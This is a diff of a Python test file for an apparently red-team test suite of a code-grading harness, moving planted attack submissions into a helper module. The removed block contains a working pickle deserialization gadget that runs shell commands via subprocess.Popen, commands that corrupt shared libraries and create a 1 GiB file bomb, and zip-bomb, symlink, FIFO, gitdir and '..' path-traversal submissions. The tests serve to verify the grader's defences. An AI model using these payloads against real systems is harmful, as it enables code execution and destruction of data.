@@ -30,6 +30,7 @@ from typing import Any
 import pytest
 
 from tools import planted
+from tools.attacks import git_repository, intake_class
 from xtc_katas import ROOT
 from xtc_katas.grade import submissions
 from xtc_katas.grade.grade_command import grade_class
@@ -272,81 +273,6 @@ def test_planted_attacks_change_no_other_grade_and_each_attacker_is_told_why(
     assert fake["katas"][0]["tasks"] == {"matmul_graph": "failed", "matmul_relu_graph": "failed"}
 
 
-#: What the learner's worker sends the harness instead of its answer: the pickle of issue
-#: 55, whose dotted name (protocol 4) reaches subprocess.Popen from an allowed module, and
-#: runs {command} with the harness's rights (items 1-2 of the issue close this door; the
-#: planted cache and record attacks below are what such a door let through).
-GADGET = """
-import gc, multiprocessing.connection, os, struct
-
-def _text(s):
-    b = s.encode()
-    return b"X" + struct.pack("<I", len(b)) + b
-
-payload = (b"\\x80\\x04" + _text("ok") + _text("xtc_katas.measure.module_cache")
-           + _text("subprocess.Popen") + b"\\x93](" + _text("sh") + _text("-c")
-           + _text({command!r}) + b"e\\x85R\\x86.")
-fired = os.path.exists("/tmp/fired")  # once per kata: the sandbox's /tmp, the harness's too
-open("/tmp/fired", "w").close()
-for found in gc.get_objects() if not fired else []:
-    if isinstance(found, multiprocessing.connection.Connection) and not found.closed:
-        try:
-            found.send_bytes(payload)
-        except OSError:
-            pass
-"""
-#: Every shared library of the module caches the run can see, replaced (the honest
-#: learner graded next loaded the poisoned host runtime, and failed); and the run's
-#: record made a sparse 1 GiB file, read whole by the grader outside the sandbox.
-POISON = "for f in $(find /grading-cache /grading -name '*.so'); do printf x > $f; done"
-RECORD_BOMB = "truncate -s 1G /grading/*.jsonl"
-
-
-def intake_class(subs: Path, other_repo: Path) -> dict[str, tuple[str, tuple[str, ...]]]:
-    """The submissions that attack the grader's intake, each made in `subs`: name ->
-    (its path, what its grade must say)."""
-    import os
-    import zipfile
-
-    stub = f"katas/{GRAPH.id}/graph.py"
-    solved = planted.partly_solved(GRAPH)
-    made: dict[str, tuple[str, tuple[str, ...]]] = {}
-    for name, command in (("poison", POISON), ("record_bomb", RECORD_BOMB)):
-        code = GADGET.format(command=command).strip() + "\n\n" + solved
-        made[name] = (str(planted.write(subs / name, {GRAPH.id: code})), ())
-    links = {"link": "/proc/self/cwd/solutions/02_graph/graph.py", "zero": "/dev/zero",
-             "abslink": str(GRAPH.solution_path(ROOT))}  # fmt: skip
-    for name, target in links.items():
-        folder = planted.write(subs / name, {GRAPH.id: solved})
-        (folder / stub).unlink()
-        (folder / stub).symlink_to(target)
-        made[name] = (str(folder), (f"{stub} is a symbolic link, not a regular file",))
-    fifo = planted.write(subs / "fifo", {GRAPH.id: solved})
-    (fifo / stub).unlink()
-    os.mkfifo(fifo / stub)
-    made["fifo"] = (str(fifo), (f"{stub} is a FIFO (named pipe)",))
-    pointer = subs / "gitfile"
-    (pointer / "katas").mkdir(parents=True)
-    (pointer / ".git").write_text(f"gitdir: {other_repo / '.git'}\n")
-    made["gitfile"] = (str(pointer), ('.git is a file ("gitdir: ...")',))
-    with zipfile.ZipFile(subs / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
-        with archive.open(stub, "w", force_zip64=True) as member:
-            for _ in range(16):  # 1 GiB of zeros, in a 1 MiB zip
-                member.write(bytes(64 << 20))
-    made["bomb"] = (str(subs / "bomb.zip"), ("is 1024.0 MiB, over the 1.0 MiB",))
-    untouched = GRAPH.stub_path(ROOT).read_text()
-    with zipfile.ZipFile(subs / "...zip", "w") as archive:
-        archive.writestr(stub, untouched)
-    made["submission"] = (str(subs / "...zip"), ("the id '..' (from",))
-    planted.write(subs / "bob", {GRAPH.id: untouched})
-    with zipfile.ZipFile(subs / "bob.zip", "w") as archive:
-        archive.writestr(stub, untouched)
-    made["bob"] = (str(subs / "bob"), ("id collision: 2 submissions are 'bob'",))
-    made["bob-2"] = (str(subs / "bob.zip"), ("id collision: 2 submissions are 'bob'",))
-    made["copy"] = (str(planted.write(subs / "copy", {GRAPH.id: solved})), ())
-    return made
-
-
 @pytest.mark.slow
 @pytest.mark.perf  # graded alone on the node, as the other red team test
 @pytest.mark.timeout(900)  # two gradings, 16 submissions: 135 s at load 3, twice at load 8
@@ -358,7 +284,6 @@ def test_planted_intake_attacks_are_refused_with_a_cause_and_change_no_other_gra
     not names, graded with two honest learners through the real LocalCluster: the honest
     grades are those they get alone, and every attacker's grade says what stopped it."""
     import csv
-    import subprocess
 
     subs = tmp_path / "subs"
     honest = {
@@ -370,10 +295,7 @@ def test_planted_intake_attacks_are_refused_with_a_cause_and_change_no_other_gra
     alone, together = tmp_path / "alone", tmp_path / "out" / "together"
     outcome = grade_class([submissions.Entry(str(subs / n)) for n in honest], alone, [GRAPH])
     assert sorted(outcome.graded) == sorted(honest) and not outcome.grader_errors
-    other = planted.write(tmp_path / "other", {GRAPH.id: honest["right"]})
-    for args in (["init", "-q"], ["add", "-A"], ["-c", "user.name=o", "-c", "user.email=o@o",
-                 "commit", "-qm", "mine"]):  # fmt: skip
-        subprocess.run(["git", "-C", str(other), *args], check=True, capture_output=True)
+    other = git_repository(tmp_path / "other", honest["right"])
     attackers = intake_class(subs, other)
     # the record bomb's own cause, or the harness's refusal of the gadget (issue 55, item 1)
     attackers["record_bomb"] = (attackers["record_bomb"][0], ())
